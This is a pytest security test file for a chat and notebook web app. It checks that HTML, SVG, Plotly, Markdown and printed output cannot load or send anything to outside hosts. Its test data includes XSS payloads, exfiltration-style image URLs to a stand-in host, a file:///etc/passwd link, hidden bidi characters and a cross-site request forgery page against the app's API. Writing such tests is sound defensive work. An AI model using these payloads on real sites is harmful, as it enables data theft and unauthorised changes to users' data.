# SPDX-License-Identifier: MIT
"""What code and models write is hostile (FIL-25, FIL-26, AGT-02): none of it leaves its place.

A server on another port of this host stands for the rest of the world. It answers everything, so
what the page or a frame could reach it has reached, and is in its list of requests.
"""

import json
import re
from pathlib import Path

import fakemodel
import pytest
import webpage
from webpage import expect

BLOCKED = ("Content Security Policy", "sandboxed", "policy: ", "ERR_BLOCKED", "SecurityError",
           "Failed to register a ServiceWorker", "Unsafe attempt", "ERR_UNKNOWN_URL_SCHEME",
           "Failed to load resource", "Not allowed to load local resource", "is denied for this",
           "Permissions policy", "violates the following", "modal", "Autofocus")


@pytest.fixture(scope="module")
def world():
    """The rest of the world."""
    with webpage.Elsewhere() as server:
        yield server


@pytest.fixture
def quiet(world):
    """The world, of which nothing may have been asked when the test is over."""
    world.requests.clear()
    yield world
    assert world.requests == []


@pytest.fixture
def tab(direct, tab_of):
    """A tab with a new chat, in which attempts that fail are complained about."""
    tab = tab_of(direct).open()
    tab.allow(*BLOCKED)
    return tab


# ---- HTML in its frame

HOSTILE = Path(__file__).with_name("hostile.html")


def test_html_reaches_nothing(direct, quiet, tab):
    """FIL-25: nothing of the page, its origin, its storage or its API, and nobody else."""
    dialogs, popups = [], []
    tab.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.context.on("page", lambda page: popups.append(page.url))
    tab.page.evaluate("() => localStorage.setItem('secret', 'of the page')")
    before = direct.post("/threads/count", {}).json
    html = HOSTILE.read_text().replace("WORLD", quiet.url).replace("PAGE", direct.url)
    tab.say(f"from IPython.display import HTML, display\ndisplay(HTML({json.dumps(html)}))")
    tab.answered(1)
    block = tab.blocks().last
    frame = block.locator("iframe").first
    said = frame.content_frame.locator("#said")
    expect(said).not_to_be_empty()
    reading, acting = json.loads(said.text_content())
    assert len(reading) == 17 and len(acting) == 13
    assert [name for name, became in reading.items() if not became.startswith("failed: ")] == []
    assert acting["open"] in ("reached: null", "failed: SecurityError"), acting
    assert acting["dialog"] in ("reached: null", "failed: SecurityError"), acting
    assert tab.page.url.startswith(direct.url) and not popups and not dialogs
    # What it wants to open is said, and opened by nobody but a person.
    expect(block.get_by_text("The content wants to open:")).to_be_visible()
    assert block.locator("a[href^='javascript:']").count() == 0
    assert frame.bounding_box()["height"] <= 6000
    assert direct.post("/threads/count", {}).json == before + 1  # our own
    assert tab.page.evaluate(WORKERS) == 0
    left = [url for url in tab.foreign if not was_stopped(tab, url)]
    assert not left, left
    tab.foreign.clear()
    tab.say("1 + 1")
    tab.answered(2)


WORKERS = "() => navigator.serviceWorker.getRegistrations().then((all) => all.length)"


def was_stopped(tab, url):
    """Whether a request was stopped before it left: the browser reports those, too."""
    return any(r.url == url and r.failure for r in tab.requests)


@pytest.mark.parametrize("way", [
    '<script>setInterval(() => { location = "WORLD/script" }, 50)</script>',
    '<meta http-equiv="refresh" content="0; url=WORLD/refresh">',
])
def test_a_frame_that_goes_elsewhere_does_not_arrive(quiet, tab, way):
    """FIL-25: a frame may try to become another page; the page's policy lets it load none."""
    html = f"<p>here</p>{way.replace('WORLD', quiet.url)}"
    tab.say(f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))")
    tab.answered(1)
    expect(tab.blocks().last.locator("iframe")).to_be_attached()
    webpage.until(lambda: was_refused(tab), "it is refused")
    tab.foreign.clear()


def was_refused(tab):
    """Whether the browser has told of a refusal, or shows its page for one in the frame."""
    tab.page.evaluate("1")  # lets Playwright hear what has happened
    return (any("frame-src" in c for c in tab.complaints) or
            any(frame.url.startswith("chrome-error:") for frame in tab.page.frames))


def test_svg_is_only_a_picture(quiet, tab):
    tab.say(f"""\
from IPython.display import SVG, display
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" '
 'onload="fetch(\\'{quiet.url}/a\\')">'
 '<script>fetch("{quiet.url}/b"); parent.document.title = "hacked"</script>'
 '<image href="{quiet.url}/c.png" width="9" height="9"/><rect width="9" height="9"/>'
 '<foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml">'
 '<iframe src="{quiet.url}/d"></iframe></body></foreignObject></svg>'))""")
    tab.answered(1)
    image = tab.blocks().last.locator("img")
    expect(image).to_be_visible()
    assert image.evaluate("(i) => i.decode().then(() => i.naturalWidth)") == 50
    assert "hacked" not in tab.page.title()


PLOTLY = """\
from IPython.display import display
display({'application/vnd.plotly.v1+json': {'data': [{'type': 'scatter', 'x': [1, 2], 'y': [1, 2],
    'name': '<img src=WORLD/name onerror="fetch(\\'WORLD/x\\')">'
            '<a href="javascript:alert(1)">n</a>'}],
  'layout': {'images': [{'source': 'WORLD/layout.png', 'x': 0, 'y': 0, 'sizex': 1, 'sizey': 1}],
    'title': {'text': '<a href="WORLD/title" target="_top">t</a>'}},
  'config': {'plotlyServerURL': 'WORLD/plotly', 'showSendToCloud': True,
             'topojsonURL': 'WORLD/topo'}}},
  raw=True)
"""


def test_a_figure_asks_nobody(quiet, tab):
    tab.say(PLOTLY.replace("WORLD", quiet.url))
    tab.answered(1)
    frame = tab.blocks().last.locator("iframe").content_frame
    expect(frame.locator(".js-line").first).to_be_attached()
    tab.foreign.clear()


# ---- Markdown and text

MARKDOWN = """\
# Heading
![secret](WORLD/?d=SECRET) ![data](data:image/svg+xml,<svg/onload=alert(1)>)
![reference][r] <img src="WORLD/raw.png" onerror="alert(1)">

[r]: WORLD/ref.png

<script>fetch("WORLD/script")</script> <iframe src="WORLD/frame"></iframe>

<style>body { display: none; background: url(WORLD/style) }</style>

<form action="WORLD/form"><button>send</button></form> <svg><use href="WORLD/use"/></svg>

[script](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [vb](vbscript:x)
[blob](blob:x) [user](http://user:pass@127.0.0.1/) [good](WORLD/good) <WORLD/auto> WORLD/bare

[relative](/threads) [protocol](//elsewhere.invalid/x) [encoded](java&#115;cript:alert(1))

$\\href{javascript:alert(1)}{formula}$ $\\includegraphics{WORLD/tex.png}$ $\\url{WORLD/texurl}$

$$\\htmlData{x=1}{\\htmlStyle{background: url(WORLD/katex)}{y}}$$

zero\u200bwidth bidi\u202eevil\u202c tag\U000e0041\U000e0042 end
"""


def test_markdown_loads_and_runs_nothing(server_of, quiet, tab_of):
    """AGT-02: no image of elsewhere, no script, no element of its own, no hidden character."""
    text = MARKDOWN.replace("WORLD", quiet.url)
    with fakemodel.FakeModel(lambda _: {"text": text}) as model:
        server = server_of(model)
        tab = tab_of(server).open()
        tab.say("hello")
        answer = tab.answered(1)
        expect(answer.get_by_role("heading", name="Heading")).to_be_visible()
        hrefs = answer.locator("a").evaluate_all(
            "(all) => all.map((a) => [a.href, a.rel, a.target])")
        assert hrefs, "links that are good are links"
        for href, rel, target in hrefs:
            assert href.startswith(quiet.url + "/"), href
            assert "noopener" in rel and "noreferrer" in rel and target == "_blank"
        assert f"{quiet.url}/good" in [h for h, _, _ in hrefs]
        made = "script, iframe, form, style, object, embed, link, img:not([src^='data:image/'])"
        assert answer.locator(made).count() == 0
        text = answer.text_content()
        assert not re.search("[\u200b\u202e\U000e0041\U000e0042]", text), "hidden characters"
        assert tab.page.locator("body").is_visible()


def test_what_people_see_of_output_that_wants_to_be_more(quiet, tab):
    """AGT-02: printed Markdown, HTML and control characters stay text."""
    tab.say("print('![](%s/?d=1) <img src=%s/x> \\x1b]8;;%s/link\\x07click\\x1b]8;;\\x07 "
            "\\u202eltr \\u200bzero')" % ((quiet.url,) * 3))
    answer = tab.answered(1)
    log = tab.opened(tab.blocks().last).get_by_role("log")
    expect(log).to_contain_text(f"![]({quiet.url}/?d=1) <img src={quiet.url}/x>")
    assert log.locator("img, a").count() == 0
    assert not re.search("[\u200b\u202e\x1b\x07]", log.text_content())
    assert answer.locator("img").count() == 0


# ---- other pages


ATTACK = """<!doctype html><body><script>
const json = {"content-type": "application/json"}, text = {"content-type": "text/plain"};
const form = new FormData();
form.append("files", new Blob(["x"]), "x");
const make = (headers, mode) => fetch("PAGE/threads", {method: "POST", body: "{}", headers, mode});
const tries = {
  simple: () => make(text, "no-cors").then((r) => r.type),
  json: () => make(json).then((r) => r.status),
  read: () => fetch("PAGE/info").then((r) => r.text()),
  page: () => fetch("PAGE/", {headers: {accept: "text/html"}}).then((r) => r.text()),
  any: () => fetch("ANY/threads", {method: "POST", body: "{}", headers: text})
    .then((r) => r.text()),
  upload: () => fetch("PAGE/threads/THREAD/files/upload", {method: "POST", body: form,
    mode: "no-cors"}).then((r) => r.type),
  remove: () => fetch("PAGE/threads/THREAD", {method: "DELETE"}).then((r) => r.status),
};
(async () => {
  const became = {};
  for (const [name, action] of Object.entries(tries))
    became[name] = await action().catch((error) => error.name);
  document.title = JSON.stringify(became);
})();
</script>
<iframe id="page" src="PAGE/"></iframe><iframe id="display" src="PAGE/frame.html"></iframe>
<form action="PAGE/threads" method="post" enctype="text/plain" target="answer">
<input name='{"x":"' value='"}'></form><iframe name="answer"></iframe>
<script>document.forms[0].submit()</script>"""


def test_a_foreign_page_can_do_nothing(direct, chromium):
    """API-22, API-25: forms, requests and frames of another page change nothing, read nothing."""
    thread = direct.thread()
    before = direct.post("/threads/count", {}).json
    any_host = direct.url.replace("127.0.0.1", "0.0.0.0")
    attack = ATTACK.replace("PAGE", direct.url).replace("ANY", any_host).replace("THREAD", thread)
    context = chromium.new_context(permissions=[webpage.LOOPBACK])
    with webpage.Elsewhere({"/": attack}) as evil:
        page = context.new_page()
        loaded = []
        page.on("requestfinished", lambda request: loaded.append(request.url))
        page.goto(evil.url.replace("127.0.0.1", "evil.test"))
        webpage.until(lambda: page.title().startswith("{"), "all is tried")
        became = json.loads(page.title())
        assert became.pop("simple") in ("opaque", "TypeError"), became
        assert became.pop("upload") in ("opaque", "TypeError"), became
        assert set(became.values()) == {"TypeError"}, became
        page.wait_for_load_state()
        for frame in page.frames[1:]:
            assert frame.locator("#root, #composer").count() == 0, frame.url
    context.close()
    assert direct.post("/threads/count", {}).json == before
    assert direct.get(f"/threads/{thread}").status == 200
    assert direct.get(f"/threads/{thread}/files").json["uploads"] == []
